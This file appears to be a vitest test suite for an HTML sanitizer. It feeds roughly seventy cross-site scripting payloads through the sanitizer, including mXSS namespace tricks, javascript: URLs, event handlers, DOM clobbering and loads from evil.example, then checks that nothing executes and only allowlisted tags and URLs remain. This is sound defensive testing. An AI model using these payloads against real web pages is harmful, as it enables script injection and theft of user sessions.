import { JSDOM, VirtualConsole } from "jsdom";
import { expect, test } from "vitest";
import { contentHtml } from "../../../../../src/core/page/dom.ts";
import { safeCopy } from "./safe-copy.ts";

const url = "https://news.example/a.html";

/** What runs calls `alert`, in whatever way it comes to run. */
const ATTACKS: readonly string[] = [
  "<script>alert(1)</script>",
  "<SCRIPT/SRC=//evil.example/x.js></SCRIPT>",
  "<script><p>甲</p></script>",
  "<img src=x onerror=alert(1)>",
  "<img src=x oNeRrOr=alert(1)//",
  "<img src='javascript:alert(1)'>",
  "<img srcset='javascript:alert(1) 1x, data:text/html,x 2x' src=x>",
  "<img src='data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+PC9zdmc+'>",
  "<svg onload=alert(1)><script>alert(1)</script></svg>",
  "<svg><script href='data:,alert(1)'/></svg>",
  "<svg><a xlink:href='javascript:alert(1)'><text>甲</text></a></svg>",
  "<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>",
  "<svg><foreignObject><iframe srcdoc='<script>parent.alert(1)</script>'></iframe></foreignObject></svg>",
  "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
  "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
  "<math><mtext><table><mglyph><svg><mtext><textarea><path id='</textarea><img onerror=alert(1) src=1>'>",
  "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
  "<math><annotation-xml encoding='text/html'><img src=x onerror=alert(1)></annotation-xml></math>",
  "<math href='javascript:alert(1)'><mi xlink:href='javascript:alert(1)'>甲</mi></math>",
  "<math><mi actiontype='statusline#http://x'>甲<a href='javascript:alert(1)'>乙</a></mi></math>",
  "<template><img src=x onerror=alert(1)></template>",
  "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
  "<iframe src='javascript:alert(1)' title='甲'></iframe>",
  "<iframe src='data:text/html,<script>alert(1)</script>' title='甲' allowfullscreen></iframe>",
  "<object data='javascript:alert(1)'><embed src='javascript:alert(1)'></object>",
  "<video title=甲 src='javascript:alert(1)' poster='javascript:alert(1)' onloadstart=alert(1)><source onerror=alert(1) src=x></video>",
  "<a href='javascript:alert(1)'>甲</a>",
  "<a href=' \u0001 java\tscr\nipt:alert(1)'>甲</a>",
  "<a href='JaVaScRiPt&colon;alert(1)'>甲</a>",
  "<a href='&#106;avascript:alert(1)'>甲</a>",
  "<a href='\u00a0javascript:alert(1)'>甲</a>",
  "<a href='vbscript:msgbox(1)'>甲</a>",
  "<a href='data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='>甲</a>",
  "<a href='blob:https://news.example/1'>甲</a>",
  "<a href='file:///etc/passwd'>甲</a>",
  "<a href='view-source:https://news.example'>甲</a>",
  "<a href='chrome-extension://abc/x.html'>甲</a>",
  "<a xlink:href='javascript:alert(1)' href='https://ok.example' ping='https://evil.example'>甲</a>",
  "<p style='background:url(javascript:alert(1))'>甲</p>",
  "<p style='width:expression(alert(1))' onmouseover=alert(1)>甲</p>",
  "<style>@import 'https://evil.example/x.css'; p { background: url(https://evil.example/x) }</style><p>甲</p>",
  "<link rel=stylesheet href=https://evil.example/x.css><p>甲</p>",
  "<base href='https://evil.example/'><a href='x'>甲</a>",
  "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
  "<form action='javascript:alert(1)'><input type=submit formaction='javascript:alert(1)' autofocus onfocus=alert(1)></form>",
  "<form id=f></form><button form=f formaction='javascript:alert(1)'>甲</button>",
  "<isindex type=image src=1 onerror=alert(1)>",
  "<details open ontoggle=alert(1)><summary>甲</summary>乙</details>",
  "<marquee onstart=alert(1)>甲</marquee>",
  "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>甲</p></noscript>",
  "<noscript>&lt;img src=x onerror=alert(1)&gt;</noscript>",
  "<noembed><img title='</noembed><img src onerror=alert(1)>'></noembed>",
  "<xmp><img title='</xmp><img src onerror=alert(1)>'></xmp>",
  "<textarea><img title='</textarea><img src onerror=alert(1)>'></textarea>",
  "<title><img title='</title><img src onerror=alert(1)>'></title>",
  "<plaintext><img src=x onerror=alert(1)>",
  "<p>甲<!--><img src=x onerror=alert(1)>--></p>",
  "<p title='<img src=x onerror=alert(1)>' lang='x\"><img src=x onerror=alert(1)>'>甲</p>",
  "<abbr title='\"><img src=x onerror=alert(1)>'>甲</abbr>",
  "<img alt='\"><img src=x onerror=alert(1)>' src='https://i.example/a.jpg'>",
  "<img alt='--><script>alert(1)</script>' src='https://i.example/`onerror=alert(1)'>",
  "<p id=alert>甲</p><a name=body id=body href=#body>乙</a><img name=getElementById src=x><form name=cookie></form>",
  "<table background='javascript:alert(1)'><tr><td background='javascript:alert(1)'>甲<td>乙</table>",
  "<x-evil onclick=alert(1) tabindex=0 autofocus onfocus=alert(1)>甲</x-evil>",
  "<p is='x-evil' slot='a' part='b' contenteditable autofocus onfocus=alert(1)>甲</p>",
  '<span data-removal="x&quot; onclick=&quot;alert(1)">甲</span>',
  '<p data-look="x&quot; onclick=&quot;alert(1)">甲</p>',
  "<a href='https://a.example'><a href='javascript:alert(1)'>甲</a></a>",
  "<select><option><img src=x onerror=alert(1)></option></select>",
  "<frameset onload=alert(1)><frame src='javascript:alert(1)'></frameset>",
  "<constructor>甲<toString>乙</toString></constructor><table><constructor>丙</table>",
];

const SAFE_TAG =
  /^(?:a|abbr|b|blockquote|br|code|details|div|em|figcaption|figure|i|img|li|math|mfrac|mi|mn|mo|mrow|mtext|p|pre|span|strong|summary|table|tbody|td|th|tr|ul)$/;
const SAFE_ATTRIBUTE = /^(?:alt|data-look|data-removal|height|href|id|lang|open|src|srcset|title|width)$/;
const SAFE_ADDRESS = /^(?:https?:|mailto:|#note-\d+$|data:image\/(?:png|jpe?g|gif|webp|avif|bmp);)/;

function sanitizedContent(html: string): string {
  const { document } = new JSDOM(`<!DOCTYPE html><body>${html}`, {
    url,
    virtualConsole: new VirtualConsole(),
  }).window;
  return contentHtml(safeCopy(document.body, url));
}

test.each(ATTACKS)("nothing runs when the content is read again: %s", (attack) => {
  const content = sanitizedContent(`<p>前文</p>${attack}<p>后文</p>`);
  let ran = false;
  const { window } = new JSDOM(`<!DOCTYPE html><body>${content}`, {
    url,
    runScripts: "dangerously",
    virtualConsole: new VirtualConsole(),
    beforeParse(page) {
      page.alert = () => {
        ran = true;
      };
    },
  });
  for (const element of window.document.body.querySelectorAll("*")) {
    for (const type of ["load", "error", "click", "focus", "mouseover", "toggle"]) {
      element.dispatchEvent(new window.Event(type));
    }
  }
  expect(ran).toBe(false);
});

test.each(ATTACKS)("only what is allowed is in the content: %s", (attack) => {
  const content = sanitizedContent(`<p>前文</p>${attack}<p>后文</p>`);
  const { document } = new JSDOM(`<!DOCTYPE html><body>${content}`).window;
  for (const element of document.body.querySelectorAll("*")) {
    expect(element.localName).toMatch(SAFE_TAG);
    for (const { name, value } of element.attributes) {
      expect(name).toMatch(SAFE_ATTRIBUTE);
      if (name === "href" || name === "src") expect(value).toMatch(SAFE_ADDRESS);
      if (name === "id") expect(value).toMatch(/^note-\d+$/);
    }
  }
});

test.each(ATTACKS)("the content read again is the same: %s", (attack) => {
  const content = sanitizedContent(`<p>前文</p>${attack}<p>后文</p>`);
  expect(contentHtml(new JSDOM(`<!DOCTYPE html><body>${content}`).window.document.body)).toBe(content);
});

test("trees that no parser makes come out as a parser would make them", () => {
  const { document } = new JSDOM("", { url }).window;
  const tree: readonly string[] = [
    "p",
    "table",
    "a",
    "h2",
    "tr",
    "li",
    "td",
    "p",
    "h3",
    "a",
    "ul",
    "p",
    "dd",
    "table",
    "div",
    "caption",
  ];
  let at: Element = document.body;
  for (const tag of tree) {
    at.append(`${tag}前`);
    const child = document.createElement(tag);
    if (tag === "a") child.setAttribute("href", "/x");
    at.append(child, `${tag}后`);
    at = child;
  }
  at.append("底");
  const body = safeCopy(document.body, url);
  const content = contentHtml(body);
  expect(contentHtml(new JSDOM(`<!DOCTYPE html><body>${content}`).window.document.body)).toBe(content);
  expect(body.textContent).toContain("底");
});
